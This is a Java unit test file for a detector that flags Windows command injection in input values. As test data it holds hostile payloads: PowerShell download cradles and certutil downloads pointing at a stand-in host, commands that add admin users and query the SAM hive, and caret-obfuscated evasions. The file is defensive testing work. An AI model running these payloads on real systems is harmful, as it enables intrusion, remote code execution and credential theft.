package dev.bulwark.core.internal.shell;

import static dev.bulwark.core.internal.rules.Scans.basic;
import static dev.bulwark.core.internal.rules.Scans.standard;
import static dev.bulwark.core.internal.rules.Scans.strict;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.internal.rules.RuleDefinition;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WindowsCommandDetectorTest {

    private final WindowsCommandDetector detector = new WindowsCommandDetector();

    @Test
    void declaresItsRulesUnderOneKey() {
        assertThat(detector.key()).isEqualTo("WINCMD");
        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("WINCMD");
    }

    @Test
    void detectsCmdWithRunSwitch() {
        assertThat(basic(detector, "x & cmd /c whoami")).contains("WINCMD-CHAIN");
        assertThat(standard(detector, "cmd.exe /c dir")).isNotEmpty();
    }

    @Test
    void detectsComspecExpansion() {
        assertThat(standard(detector, "%COMSPEC% /c ver")).isNotEmpty();
    }

    @Test
    void detectsCaretEvasion() {
        assertThat(standard(detector, "c^m^d /c whoami")).isNotEmpty();
        assertThat(standard(detector, "w^h^o^a^m^i")).contains("WINCMD-EVASION");
    }

    @Test
    void detectsChainedWindowsCommand() {
        assertThat(basic(detector, "1.1.1.1 && ipconfig /all")).contains("WINCMD-CHAIN");
        assertThat(standard(detector, "x| net user admin P@ss /add")).isNotEmpty();
    }

    @Test
    void detectsEverydayWordWithWindowsPath() {
        assertThat(standard(detector, "a & type C:\\Windows\\win.ini")).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"dir d:", "dir c:\\ /s", "type c:\\boot.ini", "copy c:\\a.txt d:\\b.txt"})
    void blocksEverydayWordWithOnlyDrivesAndPaths(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"& timeout /t 10 &", "| waitfor /t 10 x"})
    void blocksSwitchesAndNumbersAfterSeparator(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Path C:\\Program Files\\App", "See C: drive", "move c: to d:", "Type A: yes",
        "C:\\Users\\bob"})
    void allowsDrivesAndPathsInProse(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void detectsEncodedPowerShell() {
        assertThat(basic(detector, "powershell -nop -w hidden -enc SQBFAFgA")).contains("WINCMD-POWERSHELL");
    }

    @Test
    void detectsPowerShellDownloadCradle() {
        assertThat(basic(detector,
                "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")).isNotEmpty();
        assertThat(standard(detector, ";iwr http://evil.example/x.ps1")).isNotEmpty();
        assertThat(standard(detector, "Invoke-WebRequest http://evil.example/x.ps1")).isNotEmpty();
    }

    @Test
    void detectsSystemToolWithArguments() {
        assertThat(standard(detector, "certutil -urlcache -f http://evil.example/p.exe p.exe")).isNotEmpty();
    }

    @Test
    void detectsBatchForLoop() {
        assertThat(standard(detector, "for /f \"delims=\" %i in ('dir /b') do echo %i")).contains("WINCMD-BATCH");
        assertThat(standard(detector, "FOR %%G IN (a,b) DO md C:\\demo\\%%G")).contains("WINCMD-BATCH");
    }

    @Test
    void detectsBatchIfStatement() {
        assertThat(standard(detector, "IF EXIST C:\\boot.ini ECHO found")).contains("WINCMD-BATCH");
        assertThat(standard(detector, "if /i \"%x%\"==\"y\" goto end")).contains("WINCMD-BATCH");
        assertThat(standard(detector, "if %ERRORLEVEL% NEQ 0 exit")).contains("WINCMD-BATCH");
    }

    @Test
    void reportsBareToolNameOnlyWhenStrict() {
        assertThat(standard(detector, "ipconfig")).isEmpty();
        assertThat(strict(detector, "ipconfig")).containsExactly("WINCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Tom & Jerry", "Q&A", "AT&T", "cats | dogs", "rock; paper", "For sale in (mint) condition",
        "for you and me", "if all else fails call grandma", "if a == b then", "net income", "type of cheese",
        "cmd", "Use cmd to open a prompt", "start & finish", "a=b&c=d", "100% cotton & 50% off",
        "C:\\Users\\me\\report.docx", "dir=rtl", "echo & narcissus", "set, match & point",
        "https://example.com/?a=1&dir=asc&type=all", "Apt is gated; call when you get here",
        "{\"title\":\"Shirts | ZAFUL\"}", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "I <3 PowerShell", "50% of 100%", "Copy & paste", "del Rey & Sons", "help & support",
        "find/util.c: Add #include \"bugreports.h\".",
    })
    void ignoresOrdinaryValues(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"& ver", "| ver", "&dir", "\" & ver", "&& vol"})
    void detectsBareCommandAppendedAfterOpeningSeparator(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"&ver&", "\"&ver&\"", "& vol &", "&&ver&&"})
    void detectsBareCommandBetweenAmpersandsThatOpenTheValue(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"&start calc.exe", "&start calc.exe&", "\"&start calc.exe&\""})
    void detectsProgramStartedAfterAmpersandGluedToTheValueStart(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"'&net user hacker P@ss /add&'", "'&reg query HKLM\\SAM&'",
        "'&certutil -urlcache -split -f http://evil.example/x.exe&'", "'&start calc.exe&'"})
    void detectsCommandAfterSingleQuoteThatCmdReadsAsPlainText(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Rock 'n' roll & more", "O'Brien & Sons type", "It's Tom & Jerry's ver 2",
        "Let's start & finish", "'R&D' budget 2024", "| dir | size |", "a&ver&b", "x&start=calc.exe&"})
    void ignoresApostrophesAmpersandsAndTableRowsInText(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"| Help", "& More", "Tom & ver", "ver", "& ver 2"})
    void ignoresTitleFragmentsAndWordsAfterText(String value) {
        assertThat(standard(detector, value)).doesNotContain("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"if/i a==b foo", "& if/I \"%x%\"==\"a\" echo b", "for/f %i in (x.txt) do echo %i"})
    void detectsBatchWordWithSwitchGluedToIt(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-BATCH");
    }

    @ParameterizedTest
    @ValueSource(strings = {"if/when possible", "if/else logic", "if/i", "for/a good time", "if/a b==c d", "and/or"})
    void ignoresSlashJoinedWordsThatAreNoBatchSwitch(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"& start calc.exe", "| start C:\\x\\evil.bat", "x & call run.cmd", "& start payload.PS1"})
    void detectsEverydayCommandRunningProgramFileAfterSeparator(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"start setup.exe", "Download & start setup.exe now", "Type setup.exe and press enter",
        "Tom & Jerry.exe", "& start google.com", "a&start=calc.exe"})
    void ignoresProgramFileNamedInProse(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"call x.bat", "CALL X.BAT", "call \"C:\\x.bat\"", "call \"x.bat\"", "call   x.cmd   arg",
        "call x^.bat", "call \"x\".bat", "call run.ps1", "call %TEMP%\\x.bat", "Call setup.exe", "x & call run.cmd"})
    void blocksCallWhenItsOperandIsAProgramOrScriptFile(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"call cmd /c whoami", "call cmd.exe /k whoami", "CALL CMD /C whoami", "call \"cmd\" /c whoami",
        "call    cmd    /c    whoami", "call c^m^d /c whoami", "call %ComSpec% /c whoami", "call %COMSPEC% /k ver",
        "call powershell -c whoami", "call call cmd /c ver", "call \"C:\\Windows\\System32\\cmd.exe\" /c ver"})
    void blocksCallWhenItsOperandIsACommandInterpreterRunningACommand(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"call whoami", "Call WhoAmI", "call ipconfig", "call cmd", "call pwsh", "call systeminfo x"})
    void blocksCallWhenItsOperandIsACommandNoSentenceNames(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"call me at 5", "Call me maybe", "Call help desk", "call for help", "call if needed",
        "Call before delivery: +41 44 123 45 67", "Call us at 555-0100 & ask for Bob", "call back later", "call dir",
        "Call Start to book", "call :label", "call /?"})
    void allowsCallWhenItsOperandIsAPlainWordOrAnEverydayCommand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo hello > x.bat", "echo hello>x.bat", "echo hello >> run.PS1", "echo x > \"a b.vbs\"",
        "type x > app.vbs", "echo a 1> x.hta", "set /p x=y > x.cmd", "ECHO X > X.WSF"})
    void blocksOutputWhenRedirectedIntoAScriptFile(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo hello > c:\\x.bat", "echo hello > c:\\x.txt", "echo x > C:/Users/Public/x.txt",
        "dir > \\\\host\\share\\x.txt", "echo x > %TEMP%\\x.txt", "echo x > %SystemRoot%\\x.txt",
        "> c:\\x.bat echo hello", ">c:\\x.bat echo hello", "echo x 2> c:\\x.txt", "echo hello > \"c:\\x.bat\""})
    void blocksOutputWhenRedirectedOntoADriveOrShare(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo the request > log", "echo a > b.txt", "Start > Settings > Apps", "Start > Run > cmd.exe",
        "set price > 5", "echo 5 > 3", "> quoted reply: call me", "Tom > Jerry > c:\\x.bat"})
    void allowsRedirectionArrowsWhenNoCommandWritesIntoAScriptOrOntoADrive(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"call before %COMSPEC% /c whoami", "before %ComSpec% /c whoami", "hello %COMSPEC% /c whoami",
        "x %COMSPEC:~0,100% /k ver", "Call before delivery %comspec% /c dir", "see \"%COMSPEC%\" /c ver"})
    void blocksInterpreterWhenAnExpansionNamesItAfterProse(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-EVASION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Open %windir%\\system32\\cmd.exe as admin", "My %PATH% is long", "50% of %USERPROFILE%"})
    void allowsInterpreterWhenItsPathIsWrittenOutOrNoExpansionNamesIt(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Move the files > C:\\Archive", "Copy all photos > D:\\Backup", "Start > C:\\Program Files\\App",
        "Sort by date > C:\\Photos", "Find my files > C:\\Users\\bob\\Documents", "Copy -> C:\\Backup", "Move => D:\\Archive",
        "Copy to -> main.bat", "Start date > C:\\2024", "Format > Cells > C:\\", "Call Center > Queue 5 > c:\\ logs",
        "Print to > \\\\printserver\\hp4050", "Tree > \\\\fileserver\\trees", "Notes (Start > C:\\Program Files)",
        "Move the files &gt; C:\\Archive", "Start here > c:\\", "Hello,\nMove the files > C:\\Archive please",
        "| Step | Copy > C:\\Data |", "Find > C:\\Users\\bob\\Documents", "Tree > C:\\", "Move > D:/Media"})
    void allowsMenuPathsWhenArrowsPointAtADriveOrFolder(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"More > settings.cmd", "Print > script.vbs", "Start > All apps > Windows PowerShell > script.ps1",
        "Print report > C:\\reports\\q3.pdf", "More info > c:\\docs\\info.txt", "Choice > A > c:\\a.txt",
        "Help me!! > C:\\Users\\bob\\Desktop\\report.xlsx is gone"})
    void allowsCapitalisedMenuPathsWhenNoOperandIsWrittenIntoAScript(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Call stack > app.js", "Call stack: main.js > util.js > helper.js", "Copy code > main.js",
        "Type the code > index.js", "echo \"export default {}\" > babel.config.js", "Call customer.js handler"})
    void allowsJavaScriptFilesThatProseAndConfigSnippetsName(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Echo x > run.bat", "ECHO X > X.CMD", "echo x > a > c:\\x.bat", "dir /b > C:\\list.txt",
        "echo x -> c:\\x.bat", "echo x => run.cmd",
        "call app.js", "x & echo x > c:\\x.txt"})
    void blocksOutputWhenATypedCommandOrAnOperandIsWrittenIntoAScriptOrOntoADrive(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Call CMD at 555-0100", "Call CMD Group for a quote", "Order #123; call CMD Freight",
        "Hi team,\nCall CMD Logistics tomorrow about the pallet", "Call cmd.exe hangs at startup", "call PowerShell team",
        "Call pwsh maintainers", "call PowerShell ISE crashed", "Call powershell.exe crashed on startup", "Call WhoAmI team lead",
        "Call Certutil support", "Call MSBuild team", "Call Runas Group", "Call Net1 Telecom"})
    void allowsCallOfAShellOrToolWhenItRunsNothingOrOnlyWordsFollowACapitalisedName(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Call PowerShell whoami", "call pwsh maintainers", "call cmd", "Call CMD /c whoami",
        "Call PowerShell -enc AAAA", "Call Certutil -urlcache -f http://x/a a.exe", "call whoami returned nothing"})
    void blocksCallOfAShellOrToolWhenACommandSwitchOrLowercaseNameFollows(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"The %COMSPEC% variable points to cmd.exe", "Check that %COMSPEC% is set correctly",
        "My %ComSpec% is broken after the update", "Open %ComSpec% as administrator", "Run %comspec% /?"})
    void allowsInterpreterVariableWhenNoSwitchFollowsIt(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {" whoami /all", " dir c:\\", "\tcall x.bat", " call cmd /c whoami", " echo hello > c:\\x.bat",
        "\techo hello > c:\\x.bat", " > c:\\x.bat echo x", "1> c:\\x.bat echo x", "1>c:\\x.bat echo x", "@>c:\\x.bat echo x"})
    void blocksCommandWhenBlanksOrARedirectionOpenTheValue(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"call,x.bat", "call;x.bat", "call=x.bat", "x & call,x.bat", "x & call;x.bat", "x & call=x.bat",
        "call,cmd /c whoami", "call=cmd /c whoami", "call cmd,/c whoami", "cmd,/c whoami", ",cmd /c whoami",
        "call cmd/c whoami", "call cmd /cwhoami"})
    void blocksCallAndCmdWhenCmdDelimitersStandForBlanks(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a&call=x.bat", "x&start=calc.exe&", "sort=name,call=later"})
    void allowsQueryStringKeysThatNameACommand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"(echo hello) > c:\\x.bat", "(echo hello)>c:\\x.bat", "(echo a & echo b) > run.cmd",
        "> c:\\x.bat (echo x)"})
    void blocksGroupWhenItsOutputIsRedirectedIntoAScriptOrOntoADrive(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"(see notes) > c:\\x.txt", "(Tom) > Jerry.bat", "(echo hello) > log"})
    void allowsGroupWhenItRunsNoCommandOrWritesNoCode(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo hello > x.bat.", "echo hello > \"x.bat \"", "echo hello > x.bat::$DATA",
        "echo hello > x.bat:ads", "echo hello > c:\\x.bat...", "call x.bat.", "call x.bat::$DATA", "call \"x.bat.\""})
    void blocksScriptNamesThatWindowsNormalises(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"start cmd /c whoami", "call start cmd /c whoami", "start /b cmd /c whoami",
        "start \"\" cmd /c whoami", "start /min powershell -enc AAAA", "call start x.bat", "call start /b x.bat",
        "call x.wsf", "call x.js", "call x.pif"})
    void blocksStartAndCallWhenTheyRunACommandOrAFileWindowsRuns(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"@whoami /all", "@dir c:\\", "@call x.bat", "@echo x > c:\\x.bat"})
    void blocksCommandWhenAnAtSignKeepsCmdFromEchoingIt(String value) {
        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"@john", "@Override", "@media screen", "@call me at 5"})
    void allowsAtSignWhenNoCommandFollowsIt(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"((((", "^^^^", "%%%%", "&&&&", "for %a in (", "if if if ", "$($(", "call,", "call;", ",=,;",
        "(echo x)>c:\\x.bat ", "start /b ", "x > a > ", ">>>>", "1>", "<", "2>&1", "> > "})
    void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
        String value = unit.repeat((1 << 20) / unit.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"call before delivery; ", "call it's a ", "echo x y z "})
    void finishesQuicklyOnMegabyteOpeningWithAnEverydayCommand(String unit) {
        String value = unit.repeat((1 << 20) / unit.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
    }

    @Test
    void readsCommandsInTheQueryOfAUrlInAHeader() {
        assertThat(Scans.header(detector, "Referer", "https://example.com/?q=dir c:\\windows")).containsExactly("WINCMD-COMMAND");
        assertThat(Scans.header(detector, "Referer", "https://example.com/?q=dir+sizes+chart")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"whoami tells you the current user", "netstat shows port 8080 in use",
        "tasklist is empty"})
    void allowsCommandNameOpeningSentenceWithProseOperand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"ipconfig release renew", "whoami meaning", "systeminfo output"})
    void allowsSwitchesOnlyCommandFollowedByWord(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"PowerShell 7.4.0", "pwsh 7.4.1"})
    void allowsPowerShellFollowedByVersion(String value) {
        assertThat(standard(detector, value)).isEmpty();
        assertThat(strict(detector, value)).containsExactly("WINCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {"ipconfig /all", "ipconfig release /all", "whoami /priv", "netstat -ano",
        "ipconfig release & whoami", "whoami the & dir C:\\", "& whoami the", "cmd the /c whoami",
        "powershell the whoami", "PowerShell 7.4 -enc AAAA", "powershell 7.4.0; iex(iwr http://evil.example/a)",
        "w^hoami the", "certutil is -urlcache -f http://evil.example/x.exe"})
    void blocksSentenceLikeCommandWithSwitchesSeparatorOrShellOperand(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }
}
